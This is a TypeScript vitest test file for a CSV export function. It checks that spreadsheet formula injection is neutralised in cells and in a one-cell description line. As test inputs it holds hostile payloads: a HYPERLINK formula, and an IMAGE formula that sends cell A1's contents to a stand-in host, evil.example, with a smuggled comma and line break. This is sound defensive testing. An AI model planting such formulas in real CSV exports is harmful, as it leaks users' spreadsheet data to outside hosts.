import { parse as parseCsv } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { viewCsv } from './view-csv.ts';

const rows = [
  ['Title', 'Page'],
  ['=HYPERLINK("https://evil.example")', 'https://example.org/entries/x/'],
];

it('writes the description as one quoted cell starting with "# ", then the rows', () => {
  const csv = viewCsv(rows, '2 of 33 entries from https://example.org/llms/?institute=Google&year=2024 (2024, institute Google), newest first.');
  expect(csv.split('\n')[0]).toBe('"# 2 of 33 entries from https://example.org/llms/?institute=Google&year=2024 (2024, institute Google), newest first."');
  expect(parseCsv(csv, { from_line: 2, columns: true })).toEqual([{ Title: `'=HYPERLINK("https://evil.example")`, Page: 'https://example.org/entries/x/' }]);
});

it('keeps a shared link’s search text inside that one cell: no second cell, no formula, no second line', () => {
  const q = 'x,=IMAGE("https://evil.example/pixel?from="&A1&"';
  const csv = viewCsv(rows, `2 of 33 entries from https://example.org/llms/?q=${q} (search "${q}\r\n=1+1"), newest first.`);
  const records = parseCsv(csv, { relax_column_count: true }) as string[][];
  expect(records[0]).toEqual([`# 2 of 33 entries from https://example.org/llms/?q=${q} (search "${q} =1+1"), newest first.`]);
  expect(records.slice(1)).toHaveLength(2);
  expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});
